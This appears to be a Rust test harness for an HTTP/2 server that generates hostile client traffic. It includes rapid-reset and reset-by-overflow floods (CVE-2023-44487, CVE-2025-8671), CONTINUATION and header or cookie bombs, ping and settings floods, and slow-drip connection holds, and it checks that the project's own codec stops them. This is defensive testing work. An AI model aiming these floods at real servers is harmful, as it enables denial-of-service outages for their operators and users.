//! What hostile clients do to a server: floods of frames that cost a server more than a client, and connections that hold what they can.

use super::frames::{self, FIRST_OF_TABLE, Frame, INITIAL_WINDOW_SIZE, flag, kind};
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};
use terse_http::h2::{Code, Glitch};

/// Frames without an end.
#[derive(Clone, Debug)]
pub struct Flood {
    /// What the table calls it.
    pub name: &'static str,
    /// The limit that ends the connection; none where requests are refused one by one.
    pub limit: Option<Glitch>,
    /// The codes of GOAWAY that may end it; none: it stays.
    pub codes: &'static [Code],
    /// What comes once, behind the settings.
    begin: Vec<u8>,
    /// Appends the frames of a round; rounds count from 0.
    round: fn(u32, &mut Vec<u8>),
    /// Rounds after which the client has enough.
    most: u32,
}

/// How a flood ended.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct Outcome {
    /// The code of the server's GOAWAY.
    pub code: Option<Code>,
    /// What GOAWAY says beside it.
    pub words: String,
    /// The server closed the connection.
    pub is_closed: bool,
    /// Rounds that were sent.
    pub rounds: u32,
    /// Streams that the server reset.
    pub resets: u32,
    /// Heads of answers.
    pub answers: u32,
    /// What went wrong on this side: no connection, no answer in time.
    pub error: Option<String>,
}

impl Outcome {
    /// Whether it ended as the flood says.
    pub fn is_expected(&self, flood: &Flood) -> bool {
        match self.code {
            Some(code) => flood.codes.contains(&code),
            None => flood.codes.is_empty() && self.error.is_none(),
        }
    }
}

const ENOUGH: &[Code] = &[Code::ENHANCE_YOUR_CALM];

/// All floods.
pub fn floods() -> Vec<Flood> {
    type Round = fn(u32, &mut Vec<u8>);
    let flood = |name, limit, most, round: Round| Flood { name, limit: Some(limit), codes: ENOUGH, begin: Vec::new(), round, most };
    // What was answered and is gone already is none of a stream's errors, but the connection's.
    let or = |codes, flood| Flood { codes, ..flood };
    let posted = |flood| {
        let mut begin = Vec::new();
        frames::headers(1, &frames::request("POST", "/sink", &[]), false, &mut begin);
        Flood { begin, ..flood }
    };
    vec![
        // CVE-2023-44487.
        flood("rapid-reset", Glitch::Unfinished, 5000, |round, out| {
            get(round, out);
            frames::rst(id(round), Code::CANCEL.0, out);
        }),
        // CVE-2025-8671: the server is made to reset.
        flood("reset-by-overflow", Glitch::Unfinished, 5000, |round, out| {
            get(round, out);
            frames::window_update(id(round), i32::MAX as u32, out);
        }),
        flood("reset-by-zero-increment", Glitch::Unfinished, 5000, |round, out| {
            get(round, out);
            frames::window_update(id(round), 0, out);
        }),
        or(
            &[Code::ENHANCE_YOUR_CALM, Code::PROTOCOL_ERROR],
            flood("reset-by-priority", Glitch::Unfinished, 5000, |round, out| {
                get(round, out);
                frames::priority(id(round), id(round), out);
            }),
        ),
        or(
            &[Code::ENHANCE_YOUR_CALM, Code::STREAM_CLOSED],
            flood("reset-by-data", Glitch::Unfinished, 5000, |round, out| {
                get(round, out);
                frames::data(id(round), b"more", false, out);
            }),
        ),
        flood("continuations", Glitch::Continuations, 50_000, |round, out| continue_block(round, &[], out)),
        flood("header-block", Glitch::HeaderBlock, 5000, |round, out| continue_block(round, &[0; 16_000], out)),
        flood("header-bomb", Glitch::Head, 500, |round, out| {
            repeat(round, ("x-bomb", &"b".repeat(3900)), 4000, out);
        }),
        flood("cookie-crumbs", Glitch::Unfinished, 5000, |round, out| repeat(round, ("cookie", "a=1"), 1000, out)),
        flood("cookie-bomb", Glitch::Head, 500, |round, out| repeat(round, ("cookie", "a=1"), 15_000, out)),
        flood("pings", Glitch::Ping, 50_000, |_, out| frames::ping([1; 8], out)),
        flood("settings", Glitch::Settings, 50_000, |_, out| frames::settings(&[(INITIAL_WINDOW_SIZE, 70_000)], out)),
        posted(flood("empty-data", Glitch::EmptyData, 50_000, |_, out| frames::data(1, &[], false, out))),
        posted(flood("tiny-data", Glitch::TinyData, 50_000, |_, out| frames::data(1, b"x", false, out))),
        flood("priorities", Glitch::Priority, 50_000, |_, out| frames::priority(1, 3, out)),
        flood("unknown-frames", Glitch::Unknown, 50_000, |_, out| frames::frame(UNKNOWN, 0, 0, b"what", out)),
    ]
}

/// The stream of a round.
pub(super) fn id(round: u32) -> u32 {
    2 * round + 1
}

fn get(round: u32, out: &mut Vec<u8>) {
    frames::headers(id(round), &frames::request("GET", "/tiny", &[]), true, out);
}

/// A block that never ends.
fn continue_block(round: u32, part: &[u8], out: &mut Vec<u8>) {
    match round {
        0 => frames::headers_begun(1, &frames::request("GET", "/tiny", &[]), out),
        _ => frames::continuation(1, part, false, out),
    }
}

/// A request with so many times the same field, a byte each once it is in the table.
fn repeat(round: u32, (name, value): (&str, &str), count: usize, out: &mut Vec<u8>) {
    let mut block = frames::request("GET", "/tiny", &[]);
    if round == 0 {
        frames::indexed_literal(name, value, &mut block);
    }
    block.resize(block.len() + count, FIRST_OF_TABLE);
    frames::headers(id(round), &block, true, out);
}

/// Floods a server over one connection, until it is stopped or has had enough rounds and a look at what the server makes of them.
pub fn flood_once(server: SocketAddr, flood: &Flood) -> Outcome {
    let mut outcome = Outcome::default();
    if let Err(error) = outcome.flood(server, flood) {
        let is_end =
            matches!(error.kind(), io::ErrorKind::ConnectionReset | io::ErrorKind::BrokenPipe | io::ErrorKind::UnexpectedEof);
        outcome.is_closed |= is_end;
        outcome.error = (outcome.code.is_none()).then(|| error.to_string());
    }
    outcome
}

impl Outcome {
    fn flood(&mut self, server: SocketAddr, flood: &Flood) -> io::Result<()> {
        let mut socket = TcpStream::connect_timeout(&server, PATIENCE)?;
        socket.set_nodelay(true)?;
        socket.set_nonblocking(true)?;
        let (mut output, mut input, mut room) = (Vec::new(), Vec::new(), vec![0; ROOM_BYTES]);
        frames::preface(&[], &mut output);
        output.extend_from_slice(&flood.begin);
        let (begun, mut is_asked) = (Instant::now(), false);
        while self.code.is_none() {
            while output.len() < BATCH_BYTES && self.rounds < flood.most {
                (flood.round)(self.rounds, &mut output);
                self.rounds += 1;
            }
            if self.rounds == flood.most && !is_asked {
                // The server has seen all rounds when it answers this.
                frames::ping(LAST, &mut output);
                is_asked = true;
            }
            if begun.elapsed() > PATIENCE {
                return Err(io::ErrorKind::TimedOut.into());
            }
            wait(&socket, !output.is_empty())?;
            // A server that stops a flood closes: what it said before it is to be read first.
            let has_closed = match socket.read(&mut room) {
                Ok(0) => true,
                Ok(count) => {
                    input.extend_from_slice(&room[..count]);
                    false
                }
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => false,
                Err(error) => return Err(error),
            };
            while let Some(frame) = Frame::take(&mut input) {
                if self.take(&frame) {
                    return Ok(());
                }
            }
            if has_closed {
                return Err(io::ErrorKind::UnexpectedEof.into());
            }
            match socket.write(&output) {
                Ok(count) => drop(output.drain(..count)),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                // Its GOAWAY may have come meanwhile.
                Err(_) => output.clear(),
            }
        }
        Ok(())
    }

    /// Takes a frame of the server's; true for the answer to the last PING.
    fn take(&mut self, frame: &Frame) -> bool {
        match frame.kind {
            kind::GOAWAY => {
                self.code = frame.code().map(Code);
                self.words = String::from_utf8_lossy(frame.payload.get(8..).unwrap_or_default()).into_owned();
            }
            kind::RST_STREAM => self.resets += 1,
            kind::HEADERS => self.answers += 1,
            kind::PING => return frame.flags & flag::ACK != 0 && frame.payload == LAST,
            _ => {}
        }
        false
    }
}

pub(super) fn wait(socket: &TcpStream, has_output: bool) -> io::Result<()> {
    let mut flags = PollFlags::IN;
    flags.set(PollFlags::OUT, has_output);
    poll(&mut [PollFd::new(socket, flags)], Some(&Timespec { tv_sec: 0, tv_nsec: 100_000_000 }))?;
    Ok(())
}

/// Connections that are kept, and what they keep.
#[derive(Clone, Debug)]
pub struct Hold {
    /// What the table calls it.
    pub name: &'static str,
    /// All that is sent at the beginning.
    pub begin: Vec<u8>,
    /// What is sent in each [`DRIP_EVERY`].
    pub drip: Vec<u8>,
}

/// All holds.
pub fn holds() -> Vec<Hold> {
    let with = |name, settings: &[(u16, u32)], block: &[u8], end| {
        let mut begin = Vec::new();
        frames::preface(settings, &mut begin);
        (0..STREAMS).for_each(|stream| frames::headers(id(stream), block, end, &mut begin));
        Hold { name, begin, drip: Vec::new() }
    };
    let post = frames::request("POST", "/sink", &[("content-length", "1000000")]);
    let page = frames::request("GET", "/made?bytes=2000000&type=application/javascript", &[("accept-encoding", "gzip")]);
    let mut drip = Vec::new();
    (0..STREAMS).for_each(|stream| frames::data(id(stream), b"x", false, &mut drip));
    let mut half = Vec::new();
    frames::preface(&[], &mut half);
    frames::headers_begun(1, &page, &mut half);
    vec![
        with("zero-window", &[(INITIAL_WINDOW_SIZE, 0)], &page, true),
        Hold { drip, ..with("slow-body", &[], &post, false) },
        with("streams-left", &[], &post, false),
        Hold { name: "half-a-block", begin: half, drip: Vec::new() },
    ]
}

/// Connections of a [`Hold`].
#[derive(Debug)]
pub struct Held {
    connections: Vec<(TcpStream, Vec<u8>)>,
}

impl Held {
    /// Opens so many.
    pub fn begin(server: SocketAddr, hold: &Hold, count: usize) -> io::Result<Held> {
        let connect = |_| {
            let socket = TcpStream::connect_timeout(&server, PATIENCE)?;
            socket.set_nonblocking(true)?;
            Ok((socket, hold.begin.clone()))
        };
        Ok(Held { connections: (0..count).map(connect).collect::<io::Result<_>>()? })
    }

    /// How many are open.
    pub fn count(&self) -> usize {
        self.connections.len()
    }

    /// Sends some more of what was not taken yet, and `drip` behind it; drops what came, and connections that ended.
    pub fn turn(&mut self, drip: &[u8]) {
        let mut room = vec![0; ROOM_BYTES];
        self.connections.retain_mut(|(socket, output)| {
            if output.is_empty() {
                output.extend_from_slice(drip);
            }
            match socket.write(output) {
                Ok(count) => drop(output.drain(..count)),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(_) => return false,
            }
            match socket.read(&mut room) {
                Ok(count) => count > 0,
                Err(error) => error.kind() == io::ErrorKind::WouldBlock,
            }
        });
    }
}

/// How often a hold sends a little.
pub const DRIP_EVERY: Duration = Duration::from_millis(500);
/// Streams of a connection that holds.
pub(super) const STREAMS: u32 = 100;
/// A kind of frame that there is not.
pub(super) const UNKNOWN: u8 = 0xfa;
pub(super) const BATCH_BYTES: usize = 16 * 1024;
pub(super) const ROOM_BYTES: usize = 64 * 1024;
const PATIENCE: Duration = Duration::from_secs(10);
/// The last PING's.
const LAST: [u8; 8] = *b"the last";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::origin::{Options, Origin};
    use terse_http::h2::{Connection, Event, Limits};
    use terse_message::Request;

    #[test]
    fn our_codec_ends_floods() {
        let origin = Origin::start(&Options::local(1)).unwrap();
        for flood in floods() {
            let outcome = flood_once(origin.addresses()[0], &flood);
            assert!(outcome.is_expected(&flood), "{}: {outcome:?}", flood.name);
        }
    }

    /// The limit that ends a flood, as the codec says it.
    fn limit(flood: &Flood) -> Option<Glitch> {
        let (mut connection, now) = (Connection::server(Limits::default()), Instant::now());
        let mut bytes = Vec::new();
        frames::preface(&[], &mut bytes);
        bytes.extend_from_slice(&flood.begin);
        for round in 0..flood.most {
            (flood.round)(round, &mut bytes);
            let mut input = &bytes[..];
            loop {
                let (used, event) = connection.receive(input, now);
                input = &input[used..];
                match event {
                    Some(Event::Glitch(glitch)) => return Some(glitch),
                    Some(Event::Request { .. }) => connection.take_request(&mut Request::default()),
                    Some(Event::TooLarge { id, .. } | Event::Reset { id, .. }) => connection.release(id, Code::CANCEL),
                    Some(_) => {}
                    None => break,
                }
            }
            let count = connection.output().len();
            connection.wrote(count);
            bytes.clear();
        }
        None
    }

    #[test]
    fn our_codec_ends_each_flood_by_its_limit() {
        for flood in floods() {
            assert_eq!(limit(&flood), flood.limit, "{}", flood.name);
        }
    }

    #[test]
    fn holds_are_kept() {
        let origin = Origin::start(&Options::local(1)).unwrap();
        for hold in holds() {
            let mut held = Held::begin(origin.addresses()[0], &hold, 2).unwrap();
            (0..20).for_each(|_| {
                held.turn(&hold.drip);
                std::thread::park_timeout(Duration::from_millis(1));
            });
            assert_eq!(held.count(), 2, "{}", hold.name);
        }
    }
}
